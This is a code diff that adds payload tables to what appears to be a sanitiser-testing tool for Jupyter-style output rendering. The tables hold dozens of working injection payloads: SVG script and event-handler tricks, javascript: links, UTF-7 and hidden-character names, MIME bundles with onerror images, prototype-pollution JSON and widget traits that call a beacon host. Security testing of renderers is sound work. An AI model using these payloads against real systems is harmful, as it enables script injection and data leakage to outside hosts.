@@ -672,3 +672,98 @@ def chart_payloads(beacon: str) -> list[Payload]:
         code = code.replace("HIT", _in_literal(_HIT)).replace("NAME", f"c{number}")
         payloads.append(Payload(name, code.replace("BEACON", f"{beacon}/c{number}")))
     return payloads
+
+
+# Kinds of output beside HTML: SVG, types that extensions draw, names, widgets' traits.
+_SVG = {
+    "handler behind a slash": '<svg xmlns="NS" width="9"/onload="HIT"></svg>',
+    "handler of the root": '<svg xmlns="NS" onload="HIT"><rect width="9" height="9"/></svg>',
+    "handler in capitals": '<SVG ONLOAD="HIT"></SVG>',
+    "script": '<svg xmlns="NS"><script>HIT</script></svg>',
+    "script with a prefix": '<x:svg xmlns:x="NS"><x:script>HIT</x:script></x:svg>',
+    "script of another namespace": '<svg xmlns="NS"><script xmlns="urn:x">HIT</script></svg>',
+    "script in CDATA": "<svg xmlns='NS'><desc><![CDATA[</desc><script>HIT</script>]]></desc></svg>",
+    "script in a title": "<svg xmlns='NS'><title><img src='x' onerror=\"HIT\"/></title></svg>",
+    "script behind a comment": "<svg xmlns='NS'><!--><script>HIT</script>--></svg>",
+    "script behind an instruction": "<?x ><script>HIT</script>?><svg xmlns='NS'/>",
+    "script of an entity": "<!DOCTYPE svg [<!ENTITY s '<script xmlns=\"NS\">HIT</script>'>]>"
+    "<svg xmlns='NS'>&s;</svg>",
+    "set that makes a link": "<svg xmlns='NS'><a id='a'><set attributeName='href' "
+    "to='javascript:HIT'/><text y='20'>click</text></a></svg>",
+    "animation that begins": "<svg xmlns='NS'><animate attributeName='x' dur='1s' onbegin='HIT'/>"
+    "</svg>",
+    "link": "<svg xmlns='NS' xmlns:xlink='http://www.w3.org/1999/xlink'>"
+    "<a xlink:href='javascript:HIT'><text y='20'>click</text></a></svg>",
+    "document": "<svg xmlns='NS'><foreignObject width='99' height='99'><iframe "
+    "xmlns='http://www.w3.org/1999/xhtml' src='BEACON/svgframe'/></foreignObject></svg>",
+    "use of another file": "<svg xmlns='NS'><use href='BEACON/use.svg#a'/></svg>",
+    "picture": "<svg xmlns='NS'><image href='BEACON/svg.png' width='9' height='9'/></svg>",
+    "style sheet": "<svg xmlns='NS'><style>@import 'BEACON/svg.css';body{--pwned:1}</style></svg>",
+    "style sheet of an instruction": "<?xml-stylesheet href='BEACON/svgpi.css'?><svg xmlns='NS'/>",
+    "address in a style": "<svg xmlns='NS'><rect width='9' height='9' "
+    "style='fill:url(BEACON/paint.svg#a)'/></svg>",
+    "over the page": "<svg xmlns='NS' id='pwned-overlay' style='position:fixed;inset:0'/>",
+    "formula": "<svg xmlns='NS'><text y='9'>$\\href{javascript:HIT}{click}$</text></svg>",
+    "half an encoding": "<?xml version='1.0' encoding='utf-7'?><svg xmlns='NS'><text>"
+    "+ADw-script+AD4-HIT+ADw-/script+AD4-</text></svg>",
+}
+_TYPES: dict[str, object] = {
+    "application/geo+json": {
+        "type": "Feature",
+        "properties": {"popupContent": "<img src=x onerror='HIT'>", "url_template": "BEACON/{z}"},
+        "geometry": {"type": "Point", "coordinates": [0, 0]},
+    },
+    "text/vnd.mermaid": "flowchart TD\nA[\"<img src='BEACON/m.png' onerror='HIT'>\"]\n"
+    'click A href "javascript:HIT"',
+    "application/vnd.fasta.fasta": "> <img src=x onerror='HIT'>\nACGT",
+    "application/vdom.v1+json": {"tagName": "img", "attributes": {"src": "BEACON/vdom.png"}},
+    "application/vnd.jupyter.stderr": "<img src=x onerror='HIT'>\x1b]8;;javascript:HIT\x07x",
+    "application/vnd.jupyter.error": {"ename": "<script>HIT</script>", "traceback": ["x"]},
+    "text/x-html": "<script>HIT</script>",
+    "text/vnd.plotly.v1+html": "<script>HIT</script>",
+    "application/vnd.holoviews_exec.v0+json": "HIT",
+    "text/javascript1.5": "HIT",
+    "application/x-javascript": "HIT",
+    "application/xhtml+xml": "<html xmlns='http://www.w3.org/1999/xhtml'><script>HIT</script></html>",
+    "audio/wav": "x' onerror='HIT",
+    "video/mp4": 'AAAA"><img src=x onerror=HIT>',
+    "audio/x-mpegurl": "BEACON/list.m3u8",
+    "application/vnd.dataresource+json": {
+        "schema": {"fields": [{"name": "<img src=x onerror='HIT'>", "type": "string"}]},
+        "data": [{"<img src=x onerror='HIT'>": "<script>HIT</script>"}],
+    },
+    "application/json": {
+        "constructor": {"prototype": {"pwned": 1}},
+        "<img src=x onerror='HIT'>": 1,
+    },
+}
+_NAMES = {
+    "name of an error with hidden characters": "raise type('Safe\u202e\u200b\u2028rorrE', (Exception,), "
+    "{{}})('x')",
+    "name of an error with a sequence": "raise type('E\x1b]8;;javascript:1\x07', (Exception,), {{}})('x')",
+    "name of a type with hidden characters": "display({{'x/\u202e\U000e0041<script>': {hit}}}, raw=True)",
+    "name of a display": "display('x', display_id={script})",
+    "hidden text": "print(''.join(chr(0xE0000 + ord(c)) for c in {hit}))",
+}
+_TRAITS = {
+    "label with a formula": "w.Label('$\\\\href{{javascript:1}}{{x}}\\\\class{{jp-Dialog}}{{x}}$')",
+    "description with a formula": "w.Text(description='$\\\\class{{jp-Dialog}}{{x}}$')",
+    "option with HTML": "w.ToggleButtons(options=[{handler}], icons=['x jp-Dialog'])",
+    "title with HTML": "w.Tab([w.HTML({handler})], titles=[{handler}])",
+    "colour with an address": "x = w.ColorsInput()\nx.set_trait('value', [])\ndisplay(x)\n"
+    "x.comm.send({{'method': 'update', 'state': {{'value': ['url(BEACON/colour.png)']}}, "
+    "'buffer_paths': []}})",
+    "layout with an address": "w.Text(layout=dict(grid_area='url(BEACON/layout.png)', "
+    "border='1px solid; position: fixed; background: url(BEACON/layout.png)'))",
+    "widget of another class": "x = w.Text({handler})\nx._model_name = 'HTMLModel'\n"
+    "x._view_name = '__proto__'\nx.send_state()\ndisplay(x)",
+    "link into a formula": "a, b = w.Text('x'), w.Label('y')\nl = w.jslink((a, 'value'), (b, 'value'))\n"
+    "display(w.VBox([a, b]))\na.value = '$\\\\class{{jp-Dialog}}{{x}}$'",
+    "sound by address": "w.Audio(value=b'BEACON/audio.wav', format='url')",
+}
+_BUNDLES |= {
+    f"svg, {name}": ({"image/svg+xml": svg.replace("NS", "http://www.w3.org/2000/svg")}, {})
+    for name, svg in _SVG.items()
+}
+_BUNDLES |= {f"type {mime}": ({mime: value}, {}) for mime, value in _TYPES.items()}
+_CODE |= _NAMES | _TRAITS
